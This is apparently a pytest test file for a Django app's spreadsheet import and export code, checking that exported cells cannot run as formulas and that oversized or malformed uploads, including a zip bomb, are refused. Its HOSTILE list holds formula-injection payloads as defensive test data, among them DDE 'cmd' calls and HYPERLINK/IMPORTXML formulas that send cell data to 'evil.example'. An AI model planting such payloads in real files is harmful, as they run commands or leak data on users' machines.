"""Spreadsheets going out are dead text; spreadsheets coming in are small, whole and readable."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, time
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st

from communities.spreadsheets import (
    COMMAND,
    CSV,
    XLSX,
    Limits,
    check_upload,
    csv_lines,
    neutralise,
    plain,
    read_rows,
    restore,
    write_xlsx,
)

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    "''+1+1",
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "-1;=1+1",
    "words;=1+1",
    'words",=1+1,"',
    "+44=1",
    '=DDE("cmd";"/C calc";"x")',
]
LIVE_START = re.compile(r"[\s\ufeff\0]*[=+\-@\uff0b\uff0d\uff1d\uff20]|[\t\r\n\0]")
HARMLESS = [
    "",
    "words",
    "O'Brien's hall",
    "'quoted'",
    "3",
    "-3",
    "+3",
    "-2.24",
    "1e5",
    "-1E-5",
    "+44 7700 900123",
    "£250",
]


def workbook(*rows: tuple) -> io.BytesIO:
    book, file = openpyxl.Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)
    book.save(file)
    file.seek(0)
    return file


def archive(**sizes: int) -> io.BytesIO:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, size in sizes.items():
            packed.writestr(name.replace("__", "/").replace("_xml", ".xml"), b"0" * size)
    file.seek(0)
    return file


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_csv_of_a_hostile_text_opens_as_dead_text_in_heading_and_cell(payload, separator):
    written = "".join(csv_lines([payload, "name"], [[payload, "Ann"]]))
    cells = [cell for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator) for cell in row]
    assert len(cells) == (4 if separator == "," else 2)
    assert not [cell for cell in cells if LIVE_START.match(cell)]


@pytest.mark.parametrize("payload", HOSTILE)
def test_xlsx_of_a_hostile_text_holds_no_formula_in_heading_or_cell(payload):
    file = io.BytesIO()
    write_xlsx(file, [payload, "name"], [[payload, "Ann"]])
    sheet = openpyxl.load_workbook(file).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells] == ["s"] * 4
    assert not [cell.value for cell in cells if LIVE_START.match(cell.value)]
    with zipfile.ZipFile(file) as packed:
        assert b"<f>" not in packed.read("xl/worksheets/sheet1.xml")


def test_xlsx_error_words_stay_text_and_edits_keep_the_quote():
    file = io.BytesIO()
    write_xlsx(file, ["a", "b"], [["#N/A", "=1"]])
    row = next(openpyxl.load_workbook(file).active.iter_rows(min_row=2))
    assert [(cell.data_type, cell.value, bool(cell.quotePrefix)) for cell in row] == [
        ("s", "#N/A", False),
        ("s", "'=1", True),
    ]


@pytest.mark.parametrize("value", HARMLESS + [3, -3, -2.5, Decimal("-250.00"), None, date(2026, 5, 20), True])
def test_neutralise_leaves_numbers_and_harmless_words_alone(value):
    assert neutralise(value) is value
    assert restore(value) is value


@pytest.mark.parametrize("payload", HOSTILE)
def test_restore_gives_back_what_was_exported(payload):
    assert restore(neutralise(payload)) == payload


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n\0 a1;,\"\uff1d\ufeff"), max_size=6))
def test_any_text_survives_and_is_dead(text):
    safe = neutralise(text)
    assert restore(safe) == text
    assert not LIVE_START.match(safe) or re.fullmatch(r"[+-]?\d[\d ]*(\.\d+)?([eE][+-]?\d+)?", safe) or safe.isspace()


@pytest.mark.parametrize("payload", [text for text in HOSTILE if "\0" not in text])
def test_csv_export_read_back_is_the_same(payload):
    written = "".join(csv_lines([f"{payload.strip()}x", "b"], [[payload, "y"]], bom=True)).encode()
    sheet = read_rows(io.BytesIO(written))
    assert sheet.headers == [f"{payload.strip()}x", "b"]
    assert [row[sheet.headers[0]] for _number, row in sheet.rows] == [payload]


@pytest.mark.parametrize("payload", [text for text in HOSTILE if "\0" not in text and "\r" not in text])
def test_xlsx_export_read_back_is_the_same(payload):
    file = io.BytesIO()
    write_xlsx(file, ["a", "b"], [[payload, 1.0]], title="A very/long [title] that no sheet can carry")
    assert list(read_rows(file).rows) == [(2, {"a": payload, "b": "1"})]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (3, 3),
        (Decimal("2.50"), Decimal("2.50")),
        (date(2026, 5, 20), "2026-05-20"),
        (time(9, 30), "09:30:00"),
        (datetime(2026, 5, 20, 9, 30, tzinfo=UTC), "2026-05-20T10:30:00+01:00"),
        (datetime(2026, 5, 20, 9, 30), "2026-05-20T09:30:00"),  # noqa: DTZ001
    ],
)
def test_plain_writes_values_as_people_and_programs_read_them(value, text):
    assert plain(value) == text


def test_xlsx_keeps_numbers_and_dates_as_such():
    file = io.BytesIO()
    row = [3, Decimal("-2.50"), date(2026, 5, 20), datetime(2026, 5, 20, 9, tzinfo=UTC), None, True, "words"]
    write_xlsx(file, list("abcdefg"), [row])
    cells = next(openpyxl.load_workbook(file).active.iter_rows(min_row=2))
    assert [cell.data_type for cell in cells] == ["n", "n", "d", "s", "n", "s", "s"]
    assert [cell.value for cell in cells] == [
        3,
        -2.5,
        datetime(2026, 5, 20),  # noqa: DTZ001
        "2026-05-20T10:00:00+01:00",
        None,
        "yes",
        "words",
    ]


def test_xlsx_read_as_text_whatever_the_cell_type():
    file = workbook(
        ("whole", "part", "day", "moment", "none", "yes"),
        (3.0, 2.5, date(2026, 5, 20), datetime(2026, 5, 20, 9, 5), None, True),  # noqa: DTZ001
    )
    assert [row for _number, row in read_rows(file).rows] == [
        {"whole": "3", "part": "2.5", "day": "2026-05-20", "moment": "2026-05-20T09:05:00", "none": "", "yes": "yes"}
    ]


@pytest.mark.parametrize("text", ["a,b\n1,2\n", "a;b\r\n1;2\r\n", "a\tb\n1\t2", "\ufeffa,b\n\n1,2\n\n,\n"])
def test_csv_read_with_any_usual_separator_line_end_and_mark(text):
    sheet = read_rows(io.BytesIO(text.encode()))
    assert (sheet.kind, sheet.headers) == (CSV, ["a", "b"])
    assert [row for _number, row in sheet.rows] == [{"a": "1", "b": "2"}]


def test_rows_are_numbered_as_a_spreadsheet_shows_them_and_short_ones_filled():
    file = workbook(("a", "b"), ("1", "2"), (None, None), ("3", None))
    assert list(read_rows(file).rows) == [(2, {"a": "1", "b": "2"}), (4, {"a": "3", "b": ""})]
    assert list(read_rows(io.BytesIO(b"a,b\n1,2\n\n3\n")).rows) == [
        (2, {"a": "1", "b": "2"}),
        (4, {"a": "3", "b": ""}),
    ]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"  \n ", "empty"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", "old_excel"),
        (b"PK\x03\x04 but no more", "damaged"),
        ("a,b\n1,2".encode("utf-16"), "encoding"),
        ("a,b\n1,2".encode("utf-16-le"), "encoding"),
        (b"name\nCaf\xe9", "encoding"),
        (b"name\n" + b"x" * 300 + b"\0", "encoding"),
        (b'a,b\n"1,2\n3,4', "bad_csv"),
        (b'a,b\n"1"x,2', "bad_csv"),
        (b"a,a\n1,2", "same_heading"),
        (b"a,,b\n1,2,3", "no_heading"),
        (b"a,b\n1,2,3", "ragged"),
        (b",,,,,,,,,\n,,", "no_headings"),
        (",".join(f"c{n}" for n in range(201)).encode(), "too_wide"),
        (b"a\n" + b"1\n" * 5001, "too_long"),
        (b"a\n" + b"1" * (5 * 1024 * 1024), "too_big"),
    ],
)
def test_a_file_that_cannot_be_read_says_why(data, code):
    with pytest.raises(ValidationError) as caught:
        list(read_rows(io.BytesIO(data)).rows)
    assert caught.value.code == code
    assert "%(" not in caught.value.messages[0]


def test_wrong_encoding_names_the_line():
    with pytest.raises(ValidationError) as caught:
        read_rows(io.BytesIO("name\nHall\nCafé\n".encode("cp1252")))
    assert "Line 3" in caught.value.messages[0]


def test_exactly_the_limit_of_rows_is_read():
    assert len(list(read_rows(io.BytesIO(b"a\n" + b"1\n" * 5000)).rows)) == 5000
    assert len(list(read_rows(io.BytesIO(b"a\n" + b"1\n" * 5001), COMMAND).rows)) == 5001


def test_a_wide_or_long_workbook_is_refused():
    with pytest.raises(ValidationError, match="more than 200 columns"):
        read_rows(workbook(tuple(f"c{n}" for n in range(300))))
    with pytest.raises(ValidationError, match="more than 2 rows"):
        list(read_rows(workbook(("a",), ("1",), ("2",), ("3",)), Limits(rows=2)).rows)


def test_a_bomb_is_refused_by_adding_up_before_unpacking(monkeypatch):
    bomb = archive(xl__workbook_xml=10, xl__worksheets__sheet1_xml=21 * 1024 * 1024)
    assert len(bomb.getvalue()) < 100_000
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *args, **kwargs: pytest.fail("unpacked"))
    with pytest.raises(ValidationError) as caught:
        check_upload(bomb)
    assert caught.value.code == "too_big_unpacked"


def test_an_archive_that_is_no_workbook_is_refused():
    with pytest.raises(ValidationError) as caught:
        check_upload(archive(readme_xml=10))
    assert caught.value.code == "not_a_sheet"


def test_a_workbook_of_rubbish_is_called_damaged():
    with pytest.raises(ValidationError) as caught:
        read_rows(archive(xl__workbook_xml=10))
    assert caught.value.code == "damaged"


def test_a_sheet_with_a_wrong_size_written_in_it_loses_no_row():
    source, file = workbook(("a",), ("1",), ("2",)), io.BytesIO()
    with zipfile.ZipFile(source) as packed, zipfile.ZipFile(file, "w") as repacked:
        for name in packed.namelist():
            repacked.writestr(name, packed.read(name).replace(b'ref="A1:A3"', b'ref="A1"'))
    assert [row["a"] for _number, row in read_rows(file).rows] == ["1", "2"]


def test_check_upload_goes_by_content_and_rewinds():
    book, text = workbook(("a",), ("1",)), io.BytesIO(b"a\n1")
    assert [check_upload(book), check_upload(text)] == [XLSX, CSV]
    assert [book.tell(), text.tell()] == [0, 0]
